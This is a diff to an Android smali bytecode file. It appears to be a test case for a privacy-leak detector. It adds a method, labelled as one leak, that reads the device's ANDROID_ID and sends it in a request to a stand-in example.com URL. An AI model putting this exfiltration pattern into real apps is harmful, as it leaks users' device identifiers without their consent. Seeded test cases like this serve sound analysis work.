@@ -73,3 +73,21 @@
     add-int/lit8 v1, v1, 0x5
     return v1
 .end method
+
+# ANDROID_ID appended to a URL and fetched with the Apache HTTP client: one leak.
+.method public static httpLeak()V
+    .registers 6
+    const/4 v0, 0x0
+    sget-object v1, Landroid/provider/Settings$Secure;->ANDROID_ID:Ljava/lang/String;
+    invoke-static {v0, v1}, Landroid/provider/Settings$Secure;->getString(Landroid/content/ContentResolver;Ljava/lang/String;)Ljava/lang/String;
+    move-result-object v1
+    const-string v2, "http://example.com/?id="
+    invoke-virtual {v2, v1}, Ljava/lang/String;->concat(Ljava/lang/String;)Ljava/lang/String;
+    move-result-object v2
+    new-instance v3, Lorg/apache/http/client/methods/HttpGet;
+    invoke-direct {v3, v2}, Lorg/apache/http/client/methods/HttpGet;-><init>(Ljava/lang/String;)V
+    new-instance v4, Lorg/apache/http/impl/client/DefaultHttpClient;
+    invoke-direct {v4}, Lorg/apache/http/impl/client/DefaultHttpClient;-><init>()V
+    invoke-virtual {v4, v3}, Lorg/apache/http/impl/client/DefaultHttpClient;->execute(Lorg/apache/http/client/methods/HttpUriRequest;)Lorg/apache/http/HttpResponse;
+    return-void
+.end method
